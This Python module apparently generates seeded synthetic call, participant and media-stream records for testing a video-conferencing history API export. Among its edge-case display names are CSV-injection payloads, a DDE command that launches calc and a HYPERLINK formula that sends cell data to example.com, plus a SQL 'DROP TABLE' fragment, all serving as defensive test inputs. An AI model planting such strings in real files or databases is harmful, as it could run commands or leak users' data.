"""Calls as a deployment has them, from a seed: plain dicts in the API's own form, no Django.

conference(), participant() and media_stream() make one record, with every field of the API and
whatever is named otherwise; calls() makes a day.
"""

from __future__ import annotations

import json
import random
import uuid
from collections.abc import Iterator
from datetime import date, datetime, time, timedelta
from typing import Any

Record = dict[str, Any]
Call = tuple[Record, list[Record]]
"""A conference and its participants."""

ROOT = "/api/admin/history/v1/"
MICROSECOND = timedelta(microseconds=1)

NAMES = [
    # scripts
    "Kari Nordmann", "Ola Nordmann", "Jürgen Groß", "Zoë O'Brien", "María-José Carreño Quiñones",
    "Ærø Åkesson", "Nguyễn Thị Minh Khai", "Łukasz Żółć", "Иван Петрович", "Ελένη Παπαδοπούλου",
    "山田 太郎", "김민수", "王小明", "محمد بن سلمان", "שרה כהן",
    "प्रिया शर्मा", "สมชาย ใจดี", "ქეთევანი",
    "Cafe\u0301 (decomposed)", "👩‍💻 Dev Room 🚀", "🇳🇴 Oslo", "\u200f\u202eright to left",
    # what a CSV writer has to quote
    "Møterom 4.12, Bygg B", "Boardroom; 2nd floor", 'Robert "Bob" Smith', '"', '""', ",", ",,,",
    "'quoted", "a\\b", "line one\nline two", "line one\r\nline two", "ends with a break\n",
    "carriage\rreturn", "\tstarts with a tab", "tab\tinside", "\rstarts with a return",
    "  spaces around  ", "\u00a0", "\u2028separator\u2029", "\u0085next line", "\ufeffmark",
    # what a spreadsheet would run, and what only looks like it
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.com/?"&A1,"click")', "@SUM(A1:A9)", "=",
    "+4722334455", "+47 22 33 44 55", "+1+1", "-", "-2+3", "-12.5", "--", "\uff1d1+1",
    # what a reader could take for something else
    "0047", "1e5", "1/2", "TRUE", "None", "null", "NaN", "#N/A", "<b>bold</b>", "%s %d {0}",
    "${HOME}", "; DROP TABLE participant", "|", "x" * 1000, "", None,
]  # fmt: skip
SERVICES = ["conference", "lecture", "gateway", "two_stage_dialing", "test_call", "media_playback"]
SERVICE_WEIGHTS = [60, 10, 20, 4, 4, 2]
PROTOCOLS = ["SIP", "H323", "WebRTC", "MSSIP", "RTMP", "API", "TEAMS"]
PROTOCOL_WEIGHTS = [30, 8, 45, 6, 2, 3, 6]
VENDORS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
    "Pexip Infinity Connect/1.14.0 (macOS, 15.1)",
    "Cisco/RoomOS 11.20.1.9",
    "TANDBERG/529 (ce9.15.18)",
    "Yealink VC800 63.345.0.20",
    "",
    None,
]
REASONS = [
    "Call disconnected",
    "Conference terminated by another participant",
    "Timeout waiting for token refresh",
    'Disconnected: "no media", 30 s',
    "Remote disconnect\n(Q.850;cause=16)",
    None,
]
PACKET_LOSS = [0.0, 0.0, 0.0, 0, 0.01, 0.1, 0.30000000000000004, 1.25, 1e-05, 12.5, 100.0, None]
QUALITIES = ["0_unknown", "1_good", "2_ok", "3_bad", "4_terrible"]
ALIASES = ["sip:kari@example.com", "+4722334455", "h323:192.0.2.17", "ola@example.com", "guest", ""]
LOCATIONS = ["Oslo", "Tromsø", "Frankfurt, DMZ", "東京", 'DMZ "A"']


# Usual records, as the API shows them.
CONFERENCE = """
{"direct_media_available": false, "duration": 1800, "end_time": "2026-11-23T08:59:31.112339", "id": "",
 "instant_message_count": 0, "name": "Weekly", "participant_count": 0, "participants": [], "resource_uri": "",
 "service_type": "conference", "start_time": "2026-11-23T08:29:31.112339", "tag": ""}"""
PARTICIPANT = """
{"av_id": "", "bandwidth": 1920, "bucketed_call_quality": null, "call_direction": "in", "call_quality": "1_good",
 "call_tag": "", "call_uuid": "", "conference": "", "conference_name": "", "conversation_id": "",
 "disconnect_reason": "Call disconnected", "display_name": "Kari Nordmann", "duration": 0, "encryption": "On",
 "end_time": "", "has_media": true, "historic_call_quality": null, "id": "", "idp_uuid": "", "is_direct": false,
 "is_idp_authenticated": false, "is_streaming": false, "license_count": 1, "license_type": "port",
 "local_alias": "weekly@example.com", "media_node": "10.44.1.11", "media_streams": [], "parent_id": "",
 "presentation_id": null, "protocol": "WebRTC", "proxy_node": null, "remote_address": "192.0.2.17",
 "remote_alias": "kari@example.com", "remote_port": 50123, "resource_uri": "", "role": "chair", "rx_bandwidth": 1472,
 "service_tag": "", "service_type": "", "signalling_node": "10.44.1.11", "start_time": "", "system_location": "Oslo",
 "transcoding_enabled": true, "tx_bandwidth": 1472, "vendor": "Cisco/RoomOS 11.20.1.9"}"""
STREAM = """
{"end_time": "", "id": 0, "node": "", "participant": "", "rx_bitrate": 64, "rx_codec": "opus", "rx_fps": 0.0,
 "rx_packet_loss": 0.0, "rx_packets_lost": 0, "rx_packets_received": 90000, "rx_resolution": "", "start_time": "",
 "stream_id": "", "stream_type": "audio", "tx_bitrate": 64, "tx_codec": "opus", "tx_fps": 0.0, "tx_packet_loss": 0.0,
 "tx_packets_lost": 0, "tx_packets_sent": 90000, "tx_resolution": ""}"""


def _usual(record: str) -> Record:
    return dict(json.loads(record))


def stamp(moment: datetime | None) -> str | None:
    """As the node writes a time (naive, UTC): no zone, and no fraction when it is zero."""
    return moment.isoformat() if moment else None


def conference(**fields: Any) -> Record:
    record: Record = {**_usual(CONFERENCE), "id": str(uuid.uuid4())} | fields
    record["resource_uri"] = f"{ROOT}conference/{record['id']}/"
    return record


def participant(of: Record, **fields: Any) -> Record:
    """One who was in that conference from start to end; the conference then lists it."""
    record: Record = (
        _usual(PARTICIPANT)
        | {
            "call_uuid": str(uuid.UUID(int=random.Random(of["id"]).getrandbits(128), version=4)),
            "conference": of["resource_uri"],
            "conference_name": of["name"],
            "conversation_id": of["id"],
            "service_tag": of["tag"],
            **{name: of[name] for name in ("duration", "end_time", "service_type", "start_time")},
        }
        | fields
    )
    record["id"] = record["id"] or str(uuid.uuid4())
    record["resource_uri"] = f"{ROOT}participant/{record['id']}/"
    of["participants"].append(record["resource_uri"])
    of["participant_count"] = len(of["participants"])
    return record


def media_stream(of: Record, **fields: Any) -> Record:
    """One stream of that participant, which then has it."""
    stream: Record = (
        _usual(STREAM)
        | {
            "id": len(of["media_streams"]) + 1,
            "node": of["media_node"],
            "participant": of["resource_uri"],
            "stream_id": str(len(of["media_streams"])),
            **{name: of[name] for name in ("end_time", "start_time")},
        }
        | fields
    )
    of["media_streams"].append(stream)
    return stream


def calls(seed: int, day: date, conferences: int = 300, participants: int = 5) -> Iterator[Call]:
    """The calls that ended on that day (UTC), `participants` in each on the average.

    Among the first are those at the edges: ends at 00:00:00 and a microsecond before the next
    midnight, one of several days that people left long before its end, one nobody was in.
    """
    rng = random.Random(f"{seed} {day}")
    midnight = datetime.combine(day, time())
    edges = [
        (midnight, timedelta(minutes=25)),
        (midnight + timedelta(days=1) - MICROSECOND, timedelta(hours=2)),
        (midnight + timedelta(hours=16), timedelta(days=3, hours=7)),
        (midnight + timedelta(hours=12), timedelta(seconds=1)),
    ]
    for number in range(conferences):
        end, lasted = edges[number] if number < len(edges) else (_end(rng, midnight), None)
        many = 0 if number == 3 else max(1, round(rng.gauss(participants, participants / 3)))
        yield call(rng, end, lasted, many)


def call(rng: random.Random, end: datetime, lasted: timedelta | None = None, participants: int = 3) -> Call:
    """One call that ended then (naive, UTC)."""
    if lasted is None:
        lasted = timedelta(seconds=round(rng.lognormvariate(7.2, 0.9), rng.choice([0, 6])))
    start = end - lasted
    service = rng.choices(SERVICES, SERVICE_WEIGHTS)[0]
    held = conference(
        direct_media_available=rng.random() < 0.1,
        duration=int(lasted.total_seconds()),
        end_time=stamp(end),
        id=_uuid(rng),
        instant_message_count=rng.choice([0, 0, 0, 3, 41]),
        name=rng.choice(NAMES),
        service_type=service,
        start_time=stamp(start),
        tag=rng.choice(["", "", None, "cost-centre=42", "a,b;c", "møte"]),
    )
    present = [_participant(rng, held, start, end, first=not n) for n in range(participants)]
    return held, present


def _participant(rng: random.Random, held: Record, start: datetime, end: datetime, *, first: bool) -> Record:
    """The first one stays until the end; the others come and go."""
    joined = start if first else start + (end - start) * rng.random() * 0.5
    left = end if first else joined + (end - joined) * rng.random()
    protocol = rng.choices(PROTOCOLS, PROTOCOL_WEIGHTS)[0]
    one = participant(
        held,
        av_id=rng.choice(["", _uuid(rng)]),
        bandwidth=rng.choice([0, 576, 1264, 2464, 4128, None]),
        bucketed_call_quality=[[rng.randrange(5) for _ in range(4)]],
        call_direction="in" if first else rng.choice(["in", "in", "out"]),
        call_quality=rng.choices(QUALITIES, [10, 70, 12, 6, 2])[0],
        call_tag=rng.choice(["", "", "crm:4711", "x,y"]),
        call_uuid=_uuid(rng),
        disconnect_reason=rng.choice(REASONS),
        display_name=rng.choice(NAMES),
        duration=int((left - joined).total_seconds()),
        encryption="Off" if protocol == "RTMP" else "On",
        end_time=stamp(left),
        has_media=protocol != "API",
        historic_call_quality=[rng.randrange(5)],
        id=_uuid(rng),
        idp_uuid=rng.choice(["", "", _uuid(rng)]),
        is_idp_authenticated=rng.random() < 0.1,
        is_streaming=protocol == "RTMP",
        license_count=rng.choice([0, 1, 1, 2]),
        license_type=rng.choice(["port", "port", "audio", "nolicense"]),
        local_alias=rng.choice(["meet.weekly@example.com", "sip:4711@example.com", "", "møte"]),
        media_node=rng.choice(["10.44.1.11", "10.44.1.12", "2001:db8::11"]),
        parent_id=rng.choice(["", _uuid(rng)]),
        protocol=protocol,
        proxy_node=rng.choice([None, "", "10.44.9.2"]),
        remote_address=rng.choice(["192.0.2.17", "198.51.100.9", "2001:db8:1::7", ""]),
        remote_alias=rng.choice(ALIASES),
        remote_port=rng.choice([0, 5061, 50123, None]),
        role="chair" if first else rng.choice(["chair", "guest", "guest"]),
        rx_bandwidth=rng.choice([0, 448, 1472, 3000]),
        start_time=stamp(joined),
        system_location=rng.choice(LOCATIONS),
        transcoding_enabled=rng.random() < 0.9,
        tx_bandwidth=rng.choice([0, 448, 1472, 3000, None]),
        vendor=rng.choice(VENDORS),
    )
    kinds = ["audio", "video", "presentation"][: rng.choice([0, 1, 2, 2, 3])]
    for kind in kinds if one["has_media"] else []:
        seen = kind != "audio"
        media_stream(
            one,
            id=rng.randrange(1, 2**31),
            rx_bitrate=rng.randrange(3000),
            rx_codec=rng.choice(["H264", "VP8", "VP9", ""]) if seen else rng.choice(["opus", "AAC-LD"]),
            rx_fps=rng.choice([0.0, 15.0, 29.97, 30.0, None]) if seen else 0.0,
            rx_packet_loss=rng.choice(PACKET_LOSS),
            rx_packets_lost=rng.choice([0, 0, 17, None]),
            rx_packets_received=rng.randrange(10**6),
            rx_resolution=rng.choice(["1280x720", "1920x1080", None]) if seen else "",
            stream_type=kind,
            tx_packet_loss=rng.choice(PACKET_LOSS),
            tx_packets_sent=rng.randrange(10**6),
        )
    return one


def _end(rng: random.Random, midnight: datetime) -> datetime:
    """Mostly in office hours; some on the second, most with a fraction."""
    hours = min(max(rng.gauss(11.5, 3.5), 0), 23.99)
    end = midnight + timedelta(hours=hours)
    return end.replace(microsecond=0) if rng.random() < 0.1 else end


def _uuid(rng: random.Random) -> str:
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))
